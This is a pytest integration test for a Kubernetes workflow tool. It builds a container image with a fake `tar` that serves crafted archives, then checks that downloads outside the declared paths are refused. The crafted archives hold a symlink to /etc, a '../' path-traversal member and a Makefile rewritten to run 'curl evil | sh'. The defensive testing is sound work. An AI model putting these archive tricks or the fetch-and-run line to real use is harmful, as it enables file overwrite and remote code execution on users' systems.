"""A step pod whose image answers the download with its own archive, on the dev cluster's real
node: the image's `tar` is a script that, asked to create an archive (`tar cf - -- PATH`,
as pod_step's release does), prints a crafted tar baked into the image. What it sends back
must not reach the workspace outside the declared `download:` paths."""

from __future__ import annotations

import io
import re
import shutil
import subprocess
import tarfile
import uuid
from pathlib import Path

import pytest
from fixtures_k8s import REAL_NODE_POD_SPEC

from ansflow.engines.archive import ArchiveRefused
from ansflow.errors import StepFailed
from ansflow.spec.steps import CommandConfig
from ansflow.tasks.command import execute_command

pytestmark = pytest.mark.k8s

MAKEFILE = "all:\n\techo the real Makefile\n"
# Answers `tar cf - -- PATH` with /answers/PATH.tar; any other use is busybox's tar (the
# workspace upload, `tar xf - -C /workspace`).
FAKE_TAR = b"""#!/bin/sh
if [ "$1" = cf ]; then
  for last; do :; done
  exec cat "/answers/$last.tar"
fi
exec /bin/busybox tar "$@"
"""


def _tar(*members: tuple[str, str, object]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tar:
        for name, kind, payload in members:
            info = tarfile.TarInfo(name)
            if kind == "file":
                info.size = len(payload)
                tar.addfile(info, io.BytesIO(payload))
            else:
                info.type, info.linkname = tarfile.SYMTYPE, payload
                tar.addfile(info)
    return buf.getvalue()


ANSWERS = {
    # A link, a file where it belongs, then the workspace's Makefile (outside `out`).
    "out": _tar(("out/evil", "sym", "/etc"), ("out/ok.txt", "file", b"fine\n"),
                ("Makefile", "file", b"all:\n\tcurl evil | sh\n")),
    # A link to /etc, then a file "through" it.
    "links": _tar(("links/etc", "sym", "/etc"),
                  ("links/etc/ansflow-pwned", "file", b"pwned\n")),
    "dots": _tar(("dots/../Makefile", "file", b"pwned\n")),
    "big": _tar(("big/f", "file", b"x" * 1024 * 1024)),
}


def _dash_files() -> dict[str, bytes]:
    """The worker's dash and the libraries it loads, by their paths in an image (as `ldd`
    names them). BusyBox's sh runs its own tar applet whatever /bin/tar is, so the image's
    shell is dash, as in a Debian image, and `tar` is looked up in PATH."""
    dash = shutil.which("dash")
    if dash is None:
        pytest.skip("needs dash on the worker (the hostile image's /bin/sh)")
    found = {"bin/sh": Path(dash).read_bytes()}
    for path in re.findall(r"(/\S+) \(0x", subprocess.run(
            ["ldd", dash], capture_output=True, text=True, check=True).stdout):
        found[path.lstrip("/")] = Path(path).resolve().read_bytes()
    return found


@pytest.fixture(scope="module")
def hostile_image(docker_api, docker_env, base_image) -> str:
    """The busybox image with dash as sh and the fake tar, pushed to the registry the real
    node pulls from."""
    dockerfile = (f"FROM {base_image}\n"
                  'RUN ["/bin/busybox", "rm", "/bin/tar", "/bin/sh"]\n'
                  "COPY rootfs/ /\n").encode()
    files = {"Dockerfile": (dockerfile, 0o644), "rootfs/bin/tar": (FAKE_TAR, 0o755)}
    files.update({f"rootfs/{k}": (v, 0o755) for k, v in _dash_files().items()})
    files.update({f"rootfs/answers/{k}.tar": (v, 0o644) for k, v in ANSWERS.items()})
    context = io.BytesIO()
    with tarfile.open(fileobj=context, mode="w") as tar:
        for name, (data, mode) in files.items():
            info = tarfile.TarInfo(name)
            info.size, info.mode = len(data), mode
            tar.addfile(info, io.BytesIO(data))
    repo = f"{docker_env.registry}/ansflow-test/hostile-tar"
    tag = uuid.uuid4().hex[:8]
    for event in docker_api.build(fileobj=io.BytesIO(context.getvalue()), custom_context=True,
                                  tag=f"{repo}:{tag}", rm=True, forcerm=True, decode=True):
        assert "error" not in event, event
    for event in docker_api.push(repo, tag, stream=True, decode=True):
        assert "error" not in event, event
    return f"{repo}:{tag}"


def _run(cluster, make_ctx, image: str, download: str):
    return execute_command(make_ctx("command", runs_on="kubernetes"), CommandConfig(
        cluster=cluster.block_name, namespace=cluster.namespace("dl"), image=image,
        node_selector=REAL_NODE_POD_SPEC["nodeSelector"],
        tolerations=REAL_NODE_POD_SPEC["tolerations"], download=[download],
        command=f"mkdir -p {download} && echo real > {download}/real.txt"))


def test_a_pod_whose_tar_answers_with_a_hostile_archive(real_node_cluster, make_ctx,
                                                        hostile_image, tmp_path, caplog,
                                                        monkeypatch):
    (tmp_path / "Makefile").write_text(MAKEFILE)
    with pytest.raises(StepFailed) as refused:
        _run(real_node_cluster, make_ctx, hostile_image, "out")
    message = str(refused.value)
    cause = refused.value
    while cause is not None and not isinstance(cause, ArchiveRefused):
        cause = cause.__cause__
    assert cause is not None  # the adapter's own refusal, translated into the step's
    assert "member 'Makefile' is outside the declared download paths (out)" in message
    assert "refused" in message and "Traceback" not in message
    assert (tmp_path / "Makefile").read_text() == MAKEFILE
    assert (tmp_path / "out" / "ok.txt").read_text() == "fine\n"
    assert not (tmp_path / "out" / "evil").is_symlink()

    with pytest.raises(StepFailed, match="member 'dots/../Makefile' climbs out with"):
        _run(real_node_cluster, make_ctx, hostile_image, "dots")
    assert (tmp_path / "Makefile").read_text() == MAKEFILE

    # Links are skipped (and named in the log), never made: the file lands in a directory.
    _run(real_node_cluster, make_ctx, hostile_image, "links")
    assert (tmp_path / "links" / "etc" / "ansflow-pwned").read_text() == "pwned\n"
    assert not (tmp_path / "links" / "etc").is_symlink()
    assert not Path("/etc/ansflow-pwned").exists()
    log = "\n".join(r.getMessage() for r in caplog.records)
    assert "download: skipped 1 member(s)" in log and "links/etc (symbolic link)" in log

    # An endless answer stops at the spool's bound (the operator's bounds: tiny here).
    monkeypatch.setenv("ANSFLOW_DOWNLOAD_MAX_BYTES", "100")
    monkeypatch.setenv("ANSFLOW_DOWNLOAD_MAX_FILES", "2")
    with pytest.raises(StepFailed, match="the archive is larger than 16484 bytes"):
        _run(real_node_cluster, make_ctx, hostile_image, "big")
    assert not (tmp_path / "big").exists()
